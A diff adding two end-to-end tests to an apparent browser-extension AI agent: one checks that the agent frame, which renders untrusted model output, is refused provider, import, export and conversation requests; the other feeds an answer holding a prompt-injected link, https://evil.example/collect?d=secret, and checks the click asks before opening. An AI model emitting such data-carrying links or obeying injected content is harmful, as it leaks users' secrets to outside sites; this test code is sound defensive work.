@@ -15,7 +15,129 @@ in_both_browsers!(
     a_saved_key_never_follows_a_new_address,
     a_planted_import_is_refused_whole,
     an_endless_answer_is_cut_and_the_agent_stays_responsive,
+    links_say_where_they_go_and_ask_before_sending_data,
+    each_page_may_send_only_what_its_controls_need,
 );
+
+/// Least privilege: the agent's frame (which renders untrusted model
+/// output) may not send provider, import or export requests, nor read
+/// conversations; the popup reads and activates but exports nothing; the
+/// options page may do all of it.
+async fn each_page_may_send_only_what_its_controls_need(
+    b: Browser,
+    server: Server,
+) -> Result<Browser> {
+    let settings = json!({"id": "x", "kind": "openai_compatible", "label": "X",
+        "base_url": "https://x.example", "model": "m", "max_tokens": 256});
+    let requests = [
+        json!({"type": "SaveProvider", "settings": settings, "key": {"action": "set", "key": "k"}}),
+        json!({"type": "ImportConversations", "json": "{}", "policy": "skip"}),
+        json!({"type": "ExportConversations", "ids": null}),
+        json!({"type": "ListConversations", "limit": 5}),
+        json!({"type": "SetPreference", "key": "privacy.telemetry_remote", "value": true}),
+    ];
+    let refused = |reply: &Value, page: &str| {
+        reply["body"]["err"]["kind"] == "forbidden"
+            && reply["body"]["err"]["message"]
+                .as_str()
+                .is_some_and(|m| m.contains(page))
+    };
+    b.ask_on(&server.url("/"), "Hello").await?;
+    b.enter_agent().await?;
+    for request in &requests {
+        let reply = b.request_here(request.clone()).await?;
+        ensure!(refused(&reply, "agent.html"), "agent: {request} -> {reply}");
+    }
+    b.top().await?;
+    let back = b.client.window().await?;
+    b.open_popup().await?;
+    for (request, allowed) in requests.iter().zip([false, false, false, true, false]) {
+        let reply = b.request_here(request.clone()).await?;
+        if allowed {
+            ensure!(
+                !reply["body"]["ok"].is_null(),
+                "popup: {request} -> {reply}"
+            );
+        } else {
+            ensure!(refused(&reply, "popup.html"), "popup: {request} -> {reply}");
+        }
+    }
+    b.close_tab(back).await?;
+    let exported = b
+        .request(json!({"type": "ExportConversations", "ids": null}))
+        .await?;
+    ensure!(!exported["body"]["ok"].is_null(), "options: {exported}");
+    let prefs = b.request(json!({"type": "GetPreferences"})).await?;
+    ensure!(
+        !prefs
+            .to_string()
+            .contains("\"privacy.telemetry_remote\",\"value\":true"),
+        "a refused request changed a setting: {prefs}"
+    );
+    Ok(b)
+}
+
+/// Every link in an answer shows where it goes; a prompt-injected link
+/// carrying data in its address to another site opens nothing on a click
+/// but asks, in the agent; "Cancel" keeps it closed, "Open it" opens it in
+/// a new tab.
+async fn links_say_where_they_go_and_ask_before_sending_data(
+    b: Browser,
+    server: Server,
+) -> Result<Browser> {
+    use fantoccini::Locator;
+    let _fake = paperclip_e2e::scenario::agent_with_fake_provider(&b, &server.url("/")).await?;
+    b.ask("See [Report](https://evil.example/collect?d=secret) and [the guide](https://docs.example/guide).")
+        .await?;
+    b.wait_answer(0).await?;
+    let shown = b
+        .client
+        .execute(
+            "return [...document.querySelectorAll('[role=log] .message.assistant .destination')]
+               .map(e => e.textContent);",
+            vec![],
+        )
+        .await?;
+    ensure!(
+        shown == json!([" (evil.example)", " (docs.example)"]),
+        "{shown}"
+    );
+    let tabs = b.client.windows().await?.len();
+    let report = || b.client.find(Locator::LinkText("Report"));
+    report().await?.click().await?;
+    let asked = b
+        .poll(Duration::from_secs(5), "the question", || async {
+            b.text_of("[role=group][aria-label='Open this link?']")
+                .await
+        })
+        .await?;
+    ensure!(asked.contains("evil.example"), "{asked}");
+    ensure!(
+        b.client.windows().await?.len() == tabs,
+        "the click opened the link"
+    );
+    paperclip_e2e::scenario::click_button(&b, "Cancel").await?;
+    ensure!(
+        b.text_of("[role=group][aria-label='Open this link?']")
+            .await?
+            .is_none(),
+        "still asking after Cancel"
+    );
+    ensure!(
+        b.client.windows().await?.len() == tabs,
+        "Cancel opened the link"
+    );
+    report().await?.click().await?;
+    paperclip_e2e::scenario::click_button(&b, "Open it").await?;
+    let opened = b
+        .poll(Duration::from_secs(10), "the new tab", || async {
+            let now = b.client.windows().await?;
+            Ok((now.len() > tabs).then_some(now))
+        })
+        .await?;
+    ensure!(opened.len() == tabs + 1, "{} tabs", opened.len());
+    Ok(b)
+}
 
 /// A provider that streams without end (tiny pieces, as fast as they are
 /// read): the answer is cut at the limit with a notice and stored whole,
